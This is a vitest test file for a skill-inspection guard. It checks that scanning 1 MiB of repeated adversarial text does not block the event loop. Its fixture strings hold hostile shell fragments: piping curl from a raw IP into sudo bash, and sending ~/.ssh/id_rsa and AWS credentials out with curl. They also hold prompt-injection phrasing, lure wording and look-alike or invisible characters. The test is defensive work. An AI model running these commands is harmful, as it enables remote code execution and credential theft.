import { expect, it } from 'vitest';
import { inspectSkill } from '../../../../../extensions/skill_registry/features/guard/inspect/inspect-skill.ts';

const MEBIBYTE = 1024 * 1024;
const repeated = (text: string): string => text.repeat(Math.ceil(MEBIBYTE / text.length)).slice(0, MEBIBYTE);

/** Texts in which an expression that is not linear would not come to an end. */
const TEXTS: Readonly<Record<string, string>> = {
  'one character': repeated('a'),
  brackets: repeated('((('),
  base64: repeated('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789'),
  hexadecimal: repeated('6162636465'),
  'escaped characters': repeated('\\x61\\x62'),
  blanks: repeated(' '),
  'empty lines': repeated('\n'),
  quotes: repeated(`a''"b"'c'$x${'$'}{y}`),
  'pipes and programs': repeated('curl http://1.2.3.4/a | sudo bash -c $(base64 -d <<< x) && '),
  'words of instructions': repeated(
    'ignore all the of without do not user for skip tell send file to https://a.example ',
  ),
  'words of lures': repeated('download run zip password: x terminal copy paste https://glot.io/a required before you '),
  secrets: repeated('cat ~/.ssh/id_rsa env | curl -d @- requests.post( .aws/credentials open( '),
  assignments: repeated('A=http://a.example/b; B=$A; curl $B -o c\n'),
  'look-alike letters': repeated('аbсdеf '),
  'invisible characters': repeated('a\u200bb\u202e\u{e0041} '),
};

it.each(Object.keys(TEXTS))('lets other work run while it searches 1 MiB of %s', async (name) => {
  const text = TEXTS[name] as string;
  for (const path of ['SKILL.md', 'scripts/a.py']) {
    let turns = 0;
    const turn = setInterval(() => {
      turns++;
    }, 0);
    // Three, because one of blanks takes one or two slices.
    await inspectSkill([path, `more/${path}`, `most/${path}`].map((one) => ({ path: one, bytes: Buffer.from(text) })));
    clearInterval(turn);
    expect(turns, path).toBeGreaterThan(2);
  }
});
